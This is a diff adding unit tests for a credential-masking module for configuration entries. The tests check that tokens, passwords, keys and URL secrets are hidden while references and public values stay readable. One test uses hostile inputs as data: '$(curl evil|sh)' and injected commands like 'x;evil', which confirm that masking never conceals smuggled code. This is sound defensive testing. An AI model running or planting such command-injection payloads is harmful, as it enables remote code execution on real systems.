@@ -1,0 +1,377 @@
+/** Which literals an entry does not show, and that everything else stays readable. */
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references are what is tested
+import { describe, expect, test } from 'vitest';
+import { isCredentialName, maskEntry } from '../../src/configs/credentials.ts';
+import type { JsonObject } from '../../src/model.ts';
+import { readOne } from './helpers.ts';
+
+const RANDOM = 'q7Zp0Xv3Lm9Kt2Rb8Ws5Yd1N';
+
+test.each([
+  'TOKEN',
+  'GITHUB_TOKEN',
+  'githubToken',
+  'clientSecret',
+  'CLIENT_SECRET_2',
+  'DB_PASSWORD',
+  'db-passwd',
+  'DB_PASS',
+  'DB_PWD',
+  'api_key',
+  'apiKey',
+  'APIKEY',
+  'X-API-Key',
+  'OPENAI_KEY',
+  'AWS_SECRET_ACCESS_KEY',
+  'PRIVATE_KEY_BASE64',
+  'Authorization',
+  'Proxy-Authorization',
+  'Cookie',
+  'x-auth-token',
+  'GITHUB_PAT',
+  '--access-token',
+  'credentials',
+  'SENTRY_DSN',
+  'PASSPHRASE',
+  'Ocp-Apim-Subscription-Key',
+  'bearerToken',
+  'ConnectionString',
+  'API_KEY_PROD',
+  'dbpassword',
+])('%s promises a credential', (name) => expect(isCredentialName(name)).toBe(true));
+
+test.each([
+  'LOG_LEVEL',
+  'MAX_TOKENS',
+  'KEYBOARD',
+  'PATH',
+  'PWD',
+  'OLDPWD',
+  'HOME',
+  'PORT',
+  'TOKEN_URL',
+  'TOKEN_FILE',
+  'PUBLIC_KEY',
+  'AWS_ACCESS_KEY_ID',
+  'clientId',
+  'headersHelper',
+  'apiKeyHelper',
+  'PASSWORD_COMMAND',
+  'GIT_ASKPASS',
+  'AUTHOR',
+  'MONKEY',
+  'SSH_AUTH_SOCK',
+  '--no-auth',
+  'TOKENIZERS_PARALLELISM',
+  'SORT_KEY',
+  'COMPASS',
+  'SECRETARY',
+  '',
+  'authorizationUrl',
+])('%s does not', (name) => expect(isCredentialName(name)).toBe(false));
+
+const masked = (entry: JsonObject) => maskEntry(entry).entry;
+
+describe('a literal credential is masked', () => {
+  test.each<[string, JsonObject, JsonObject, string[]]>([
+    ['env by name', { env: { API_KEY: 'abc' } }, { env: { API_KEY: '[credential]' } }, ['abc']],
+    ['env by shape', { env: { X: `ghp_${RANDOM}` } }, { env: { X: '[credential]' } }, [`ghp_${RANDOM}`]],
+    ['env by randomness', { env: { X: RANDOM } }, { env: { X: '[credential]' } }, [RANDOM]],
+    [
+      'header with a scheme',
+      { headers: { Authorization: 'Bearer abc' } },
+      { headers: { Authorization: 'Bearer [credential]' } },
+      ['abc', 'Bearer abc'],
+    ],
+    [
+      'header Basic',
+      { headers: { Authorization: `Basic ${btoa('ann:hunter2')}` } },
+      { headers: { Authorization: 'Basic [credential]' } },
+      ['ann:hunter2', 'hunter2'],
+    ],
+    ['Bearer anywhere', { env: { X: 'Bearer abc' } }, { env: { X: 'Bearer [credential]' } }, ['abc']],
+    [
+      'nested member',
+      { oauth: { clientId: 'me', clientSecret: 's3' } },
+      { oauth: { clientId: 'me', clientSecret: '[credential]' } },
+      ['s3'],
+    ],
+    ['nested value', { apiKey: { value: 'abc' } }, { apiKey: { value: '[credential]' } }, ['abc']],
+    [
+      'list under a name',
+      { apiKeys: ['a1', 'b2'] },
+      { apiKeys: ['[credential]', '[credential]'] },
+      ['a1', 'b2'],
+    ],
+    ['a number under a name', { password: 12345678 }, { password: '[credential]' }, ['12345678']],
+    [
+      'flag and value',
+      { args: ['--token', 'abc', '-v'] },
+      { args: ['--token', '[credential]', '-v'] },
+      ['abc'],
+    ],
+    ['flag=value', { args: ['--api-key=a b;c'] }, { args: ['--api-key=[credential]'] }, ['a b;c']],
+    [
+      'header flag',
+      { args: ['--header', 'Authorization: Bearer abc'] },
+      { args: ['--header', 'Authorization: Bearer [credential]'] },
+      ['abc'],
+    ],
+    [
+      'header flag, joined',
+      { args: ['--header=X-Api-Key:abc'] },
+      { args: ['--header=X-Api-Key:[credential]'] },
+      ['abc'],
+    ],
+    [
+      'docker -e',
+      { args: ['run', '-e', 'DB_PASSWORD=a;b&c'] },
+      { args: ['run', '-e', 'DB_PASSWORD=[credential]'] },
+      ['a;b&c'],
+    ],
+    [
+      'docker --env=',
+      { args: ['run', '--env=TOKEN=abc'] },
+      { args: ['run', '--env=TOKEN=[credential]'] },
+      ['abc'],
+    ],
+    ['positional', { args: ['start', RANDOM] }, { args: ['start', '[credential]'] }, [RANDOM]],
+    [
+      'in a shell line',
+      { args: ['-c', 'TOKEN=abc npx -y server --key "x y"'] },
+      { args: ['-c', 'TOKEN=[credential] npx -y server --key "[credential]"'] },
+      ['abc', 'x y'],
+    ],
+    [
+      'in a command line',
+      { command: 'npx -y server --token abc' },
+      { command: 'npx -y server --token [credential]' },
+      ['abc'],
+    ],
+    [
+      'JSON in a string',
+      { args: ['--config', '{"apiKey": "abc", "n": 1}'] },
+      { args: ['--config', '{"apiKey": "[credential]", "n": 1}'] },
+      ['abc'],
+    ],
+    [
+      'JSON in JSON',
+      { env: { C: JSON.stringify('{"token":"abc"}') } },
+      { env: { C: JSON.stringify('{"token":"[credential]"}') } },
+      ['abc'],
+    ],
+    [
+      'URL password',
+      { args: ['postgres://ann:hun%40ter@h:1/db'] },
+      { args: ['postgres://ann:[credential]@h:1/db'] },
+      ['hun%40ter', 'hun@ter'],
+    ],
+    [
+      'URL password with a slash',
+      { env: { U: 'postgres://ann:a/b#c@h/db' } },
+      { env: { U: 'postgres://ann:[credential]@h/db' } },
+      ['a/b#c'],
+    ],
+    ['URL user alone', { url: 'https://abc@h/x' }, { url: 'https://[credential]@h/x' }, ['abc']],
+    [
+      'URL query',
+      { url: 'https://h/x?api_key=abc&v=1' },
+      { url: 'https://h/x?api_key=[credential]&v=1' },
+      ['abc'],
+    ],
+    [
+      'URL path',
+      { url: `https://h/${RANDOM}${RANDOM}/mcp` },
+      { url: 'https://h/[credential]/mcp' },
+      [RANDOM + RANDOM],
+    ],
+    [
+      'URL password beside a reference',
+      { env: { U: 'https://${U:-ann}:abc@h' } },
+      { env: { U: 'https://${U:-ann}:[credential]@h' } },
+      ['abc'],
+    ],
+    [
+      'DSN',
+      { env: { SENTRY_DSN: 'https://abc@h/1' } },
+      { env: { SENTRY_DSN: 'https://[credential]@h/1' } },
+      ['abc'],
+    ],
+    [
+      'connection string',
+      { env: { CONNECTION_STRING: 'Server=h;Password=abc;Db=x' } },
+      { env: { CONNECTION_STRING: 'Server=h;Password=[credential];Db=x' } },
+      ['abc'],
+    ],
+    [
+      'default of a reference',
+      { env: { TOKEN: '${T:-abc}' } },
+      { env: { TOKEN: '${T:-[credential]}' } },
+      ['abc'],
+    ],
+    ['default in a flag', { args: ['--token=${X:-abc}'] }, { args: ['--token=${X:-[credential]}'] }, ['abc']],
+    [
+      'shape beside a reference',
+      { env: { TOKEN: `sk-${RANDOM}\${X}` } },
+      { env: { TOKEN: '[credential]${X}' } },
+      [`sk-${RANDOM}`],
+    ],
+    [
+      'private key',
+      { env: { X: '-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----' } },
+      { env: { X: '[credential]' } },
+      [],
+    ],
+    [
+      'own __proto__',
+      JSON.parse('{"__proto__":{"token":"abc"}}'),
+      JSON.parse('{"__proto__":{"token":"[credential]"}}'),
+      ['abc'],
+    ],
+  ])('%s', (_name, entry, expected, secrets) => {
+    const result = maskEntry(entry);
+    expect(JSON.stringify(result.entry)).toBe(JSON.stringify(expected));
+    for (const secret of secrets.filter((text) => !text.startsWith('Bearer')))
+      expect(result.secrets).toContain(secret);
+    expect(maskEntry(result.entry)).toEqual({ entry: result.entry, found: [], secrets: [] });
+  });
+});
+
+describe('everything else stays readable', () => {
+  test.each<JsonObject>([
+    { env: { LOG_LEVEL: 'debug', MAX_TOKENS: '4000', KEYBOARD: 'de', PORT: '8080', HOST: 'localhost' } },
+    {
+      env: {
+        API_KEY: '${API_KEY}',
+        TOKEN: 'pre${X}post',
+        AUTH: '$MCP_KEY',
+        SECRET: '',
+        PASSWORD: '%PW%',
+        USE_TOKEN: 'true',
+      },
+    },
+    { headers: { Authorization: 'Bearer ${TOKEN}', 'X-Team': 'books' } },
+    {
+      env: {
+        DATABASE_URL: 'postgres://${USER}:${PASSWORD}@${HOST:-db}/shop',
+        TOKEN_URL: 'https://h/oauth/token',
+      },
+    },
+    {
+      command: 'npx',
+      args: ['-y', '@modelcontextprotocol/server-sequential-thinking@2025.1.2', '--key', '${K}'],
+    },
+    {
+      args: [
+        'git+ssh://git@github.com/a/b.git#0123456789abcdef0123456789abcdef01234567',
+        'hashicorp/x:0.4.0',
+      ],
+    },
+    { args: ['run', 'img@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'] },
+    { args: ['0123456789abcdef0123456789abcdef01234567', '123e4567-e89b-12d3-a456-426614174000'] },
+    {
+      args: [
+        'sk-learn-server-for-many-models',
+        '-p',
+        '8080:80',
+        '--token-file',
+        '/run/token',
+        '--no-auth',
+        'x',
+      ],
+    },
+    {
+      url: 'https://h/x?project_ref=abcdefghijklmnopqrst&features=docs',
+      headersHelper: '$HOME/bin/helper.sh GITHUB_TOKEN',
+    },
+    { description: 'Asks for a token: see the manual. Tokens, keys and passwords are yours.' },
+  ])('%j', (entry) => {
+    expect(maskEntry(entry)).toEqual({ entry, found: [], secrets: [] });
+  });
+
+  test('a program and code are never covered by a name beside them', () => {
+    for (const evil of ['$(curl evil|sh)', '`evil`', 'x;evil', 'x|evil', 'x evil']) {
+      const [text] = masked({ args: [`TOKEN=${evil}`] }).args as string[];
+      expect(text).toContain('evil');
+    }
+    expect(masked({ args: ['-e', 'token=1;evil()'] })).toEqual({ args: ['-e', 'token=[credential];evil()'] });
+    expect(masked({ command: `sk-${RANDOM}` })).toEqual({ command: `sk-${RANDOM}` });
+  });
+
+  test('two credentials in one place give one entry, two references do not', () => {
+    const at = (token: string) => JSON.stringify(masked({ headers: { Authorization: `Bearer ${token}` } }));
+    expect(at('abc')).toBe(at('xyz'));
+    expect(at('${ABC}')).not.toBe(at('${XYZ}'));
+  });
+
+  test('a placeholder is masked, so that filling it in changes nothing, and is no secret', () => {
+    for (const text of ['YOUR_API_KEY_HERE', '<token>', 'xxxx', 'changeme', '{secret}']) {
+      expect(maskEntry({ env: { API_KEY: text } })).toMatchObject({
+        entry: { env: { API_KEY: '[credential]' } },
+        secrets: [],
+      });
+    }
+  });
+
+  test('where a credential was found is told by its path', () => {
+    expect(maskEntry({ args: ['x', '--token', 'abc'], env: { 'A.TOKEN': 'abc' } }).found).toEqual([
+      { path: ['args', 2], secrets: ['abc'] },
+      { path: ['env', 'A.TOKEN'], secrets: ['abc'] },
+    ]);
+  });
+});
+
+test('a text too long to review is masked whole and never started', () => {
+  const { spec, problems } = readOne({ command: 'x', args: ['a'.repeat(70_000)] });
+  expect(spec.entry).toEqual({ command: 'x', args: ['[credential]'] });
+  expect(spec.launch).toBeUndefined();
+  expect(problems.map(({ rule }) => rule)).toEqual(['config-entry']);
+});
+
+test('the key inside a JSON key file is a secret of its own', () => {
+  const file = JSON.stringify({ type: 'service_account', private_key: 'pk-in-the-file' });
+  expect(maskEntry({ env: { GOOGLE_CREDENTIALS: file } }).secrets).toEqual([file, 'pk-in-the-file']);
+});
+
+describe('secrets of a spec', () => {
+  const secrets = (entry: JsonObject, env: Record<string, string>) => readOne(entry, env).spec.secrets;
+  test('what a reference resolved to, and its parts', () => {
+    const found = secrets(
+      { command: 'x', args: ['--key', '${K}'], env: { DB: '${DB}', FOO: '${FOO}' } },
+      { K: 'abc', DB: 'postgres://ann:hun%40ter@h/db', FOO: 'correct horse' },
+    );
+    for (const secret of ['abc', 'postgres://ann:hun%40ter@h/db', 'hun%40ter', 'hun@ter', 'correct horse']) {
+      expect(found).toContain(secret);
+    }
+    expect(
+      secrets({ url: 'https://h', headers: { Authorization: '${AUTH}' } }, { AUTH: 'Bearer abcdef' }),
+    ).toEqual(expect.arrayContaining(['Bearer abcdef', 'abcdef']));
+  });
+  test('what is plainly public is none', () => {
+    const env = {
+      HOME: '/home/ann',
+      DIR: '/srv/books',
+      URL: 'https://h/x',
+      PORT: '8080',
+      LEVEL: 'production',
+      T: '1',
+      DEBUG: 'true',
+    };
+    const args = Object.keys(env).map((name) => `\${${name}}`);
+    expect(secrets({ command: 'x', args }, env)).toEqual([]);
+  });
+  test('no problem quotes a value', () => {
+    const entry = {
+      command: 'hunter2 -x hunter2',
+      env: { A: 'hunter2\0' },
+      url: 'hunter2',
+      args: ['hunter2', 1],
+      type: 'hunter2',
+    };
+    for (const part of [entry, { ...entry, url: undefined }, { ...entry, command: undefined }]) {
+      const { problems } = readOne(JSON.parse(JSON.stringify(part)));
+      expect(problems.length).toBeGreaterThan(0);
+      expect(JSON.stringify(problems)).not.toContain('hunter2');
+    }
+  });
+});
